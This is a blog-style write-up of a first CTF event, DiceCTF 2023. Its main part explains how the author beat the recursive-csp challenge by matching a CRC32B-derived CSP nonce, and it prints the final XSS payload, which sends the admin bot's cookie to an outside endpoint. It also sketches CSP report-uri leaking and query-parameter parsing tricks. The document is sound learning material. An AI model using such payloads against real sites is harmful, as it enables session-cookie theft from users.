Skip to main content

DiceCTF 2023 Writeup

·6 mins

DiceGang  just finished hosting DiceCTF 2023 ( It was first my first ever CTF event. I didn’t really have any expectations going in and signed up on awhim. But guess what? I managed to solve one of the challenges and even gave a couple others a shot. I learned a ton from this event, and I’m definitely going to attend more CTF events in the future.

Here are my write ups.

web/recursive-csp #

  • solved
  • solves: 178
  • description: the nonce isn’t random, so how hard could this be? (the flag is in the admin bot’s cookie)

I was greeted with a simple Hello World and an input for name. The form is simple, it submits a GET request with name as query parameter. The new page’s title changed from “Hello world! to “Hello andy!”.

A screenshot of the recursive-csp challenge.

This was screaming XSS to me, so I just randomly inputting possible XSS attacks. But none of the <script> code was executing. Looking at the console error, it was blocked by the CSP header.

Content Security Policy: The page’s settings blocked the loading of a resource at inline (“script-src”).

The CSP header (content-security-policy: default-src 'none'; script-src 'nonce-fe26ee76' 'unsafe-inline'; base-uri 'none';) is only allowing script with particular nonce! This matches up with the hint. I started looking at how the nonce is generated by the server. At the first, I thought it was using the whole document or the date time as the input for hashing, and then only to realized that only the name parameter was used for input. It made so much sense to just use the input,this took way longer than I want to admit.

Now I know what the server was using for the input, I needed to know what kind of algorithm it is using. The nonce was always 8 characters so I started looking at any algorithm that will output 8 characters. I spent a long time on searching this. I didn’t know many hashing or encoding function except the basics: md5, sha256, etc. Until I finally found asite: I used it to test md5 and other algorithms I know. What’s cool about this site is that it outputs string encoded with other popular algorithms. This is how I found “CRC32B” hashing function.

Future self here: it seems like CRC32B is a common hashing function provided by PHP. If only I could google what kind of hashing function php provides.

Now I know how the server generate the nonce, I just need to somehow force it to match with my XSS. I wrote a simple js script to output <script nonce="{input}">alert(1)</script> where I replaced the “{input}” with a 8 characters random string and hoped the CRC32B hashing will return the same thing. My script didn’t work and I was stuck. It was not able even brute force one match for me. I ran the script for half an hour but no luck.

I began searching online for a way to brute force it, and luckily stumbled upon this blog post by Nayuki The blog explains in details how the math works. To summarize it, the script adds 4 extra bytes to match the provided hash. This was really cool. I experimented with the script and found out some bytes that are injected are not URI friendly so I have to re-hash it again with a different value.

At the end, I wrote a script to generate the hash. The flag was in admin bot’s cookie so I had to update the script to send the cookie to an endpoint I control. Since CSP prevents any network requests for sending the cookie, I used document.location to change the URL in admin bot and hoped that it would redirect before it close the headless browser. To my surprise it worked.

Here is my final payload. I injected the random 4 bytes at the end (u091). You can check thehash, it should match to 55ed1ba5.

<script nonce="55ed1ba5">document.location=""+document.cookie</script>  uO91

Future self here: was a site I used to get a temporary endpoint. However, reading everyone else’s write up it seemed like is what people usually use.

This is the flag I got at the end, dice{h0pe_that_d1dnt_take_too_l0ng}. Honestly, I faced a lot of difficulties during the whole challenge: figuring out the hash algorithm, troubleshooting why the random bytes weren’t working in the URL, and understanding how the admin bot operates. It took me roughly 15 hours to solve this challenge, but even if I hadn’t solve it, it would still have been worth the effort. The amount of joy when I saw the flag was indescribable.

A solved screenshot for recursive-csp challenge in dashboard view.

Here is the author strellic’s write up. He wrote a simple rust program to force the output which is much faster than my javascript version! Additionally, he created three more awesome challengesthat are worth checking out!

Unsolved challenge #

I attempted other challenges but couldn’t solve them. Here are notes to myself for studying and documenting what I attempted.

web/scorescope #

  • solves: 55
  • description: I’m really struggling in this class. Care to give me a hand?

This challenge had a file named, we needed to implement all the functions and upload to the site for grading. (It felt like university homework.) The test cases included a hidden case so users couldn’t guess it. I couldn’t solve this. I don’t use python regularly. But here is a good write up by r3kapig.

I learned a lot about exposing what the main module has and how to manipulate it.

web/codebox #

  • solves: 30
  • description: strellic makes csp challs, maybe i should try one sometime

This is another really cool challenge with CSP. It uses report-uri to leak information to an external server. It also uses a cool trick with how URL().searchParams.get() and express’s req.query parse multiple parameters with the same key. URL uses the first and express uses thelast. This blew my mind . I didn’t know even think this was possible, I assume everything follow a standard.

r3kapig’s write up has a detail explanation on how the challenge worked and how they solved it.

Conclusion #

This was my first ever CTF event, I am really proud that I even solved 1 challenge. I learned a lot by participating the event. Also, thank you to the DiceGang staff in teh discord chat. I didn’t really know how to use the admin bot so I was asking weird questions about it.

Here are things that I learned:

  • Amazing people/groups to follow: strellic, ankursundara, r3kapig, Nayuki, and dicegang
  • Content Security Policy header and how to use it.
  • CRC32 hashing algorithm.
  • pwntool to interact with server. Usefulfor scripting and parsing the output.

There are plenty more things that I won’t list here.That’s about it, thank you for reading.